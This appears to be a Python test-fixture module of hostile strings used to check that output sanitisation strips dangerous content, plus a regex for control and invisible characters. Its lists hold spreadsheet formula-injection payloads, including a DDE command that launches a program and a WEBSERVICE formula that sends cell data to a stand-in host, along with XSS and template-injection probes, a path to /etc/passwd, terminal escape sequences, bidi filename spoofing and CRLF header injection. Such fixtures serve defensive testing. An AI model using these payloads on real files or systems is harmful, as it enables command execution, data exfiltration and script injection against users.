"""Strings that others might write into their files to be executed, to hide or to mislead; and what
no output may show."""

import re

FORTY = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","y")',
    "=WEBSERVICE(\"http://x.example/\"&A1)", "{=1+1}", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1",
    "\n=1+1", "'=1+1", "%0A=1", "#REF!", "#N/A", "TRUE", "0012", "1E5", "12/03/1980",
    "037085012345678",
    "http://x.example/", "mailto:a@x.example", "file:///etc/passwd", "internal:'Lỗi'!A1",
    "external:c:\\x.xlsx", "<script>alert(1)</script>", "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "{{ 7*7 }}",
    "{% raw %}", "]]>", "&amp;&lt;", "_x000D_ _x0041_", "a\x00b\x07c\x1b[31m", "a\ufffeb\uffff",
    "\u202egnp.exe", "\u2066a\u2069\u200f", "a" * 40_000, "😀" * 20_000,
]  # fmt: skip
HOSTILE = [
    *FORTY,
    # Two escapes of a workbook that share a sign; what XlsxWriter takes for XML of its own; markup
    # of rich; orders to a terminal (a link, a title, the C1 sign that begins one); marks that
    # nobody sees; line breaks that are none of ASCII.
    "_x0041_x0042_", "<r><t>x</t></r>", "[red]đỏ[/x]",
    "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31mđỏ\x90x\x9c",
    "x\u200by\u200c\u200dz\ufeff\u2060\u00ad\U000e0041",
    "m\u2028n\u2029o\x85p\x0bq\x0cr", "::error::giả\r\nBcc: x@y.example\r\n\r\n<b>",
]  # fmt: skip
"""The forty and, after them, what was found to need a string of its own."""
SHORT = [text for text in HOSTILE if len(text) < 1_000]

STAIN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ufffe\uffff\U000e0000-\U000e007f\ud800-\udfff]"
)
"""Signs that no text for people may hold: controls, those that reorder or that nobody sees, line
breaks other than LF."""
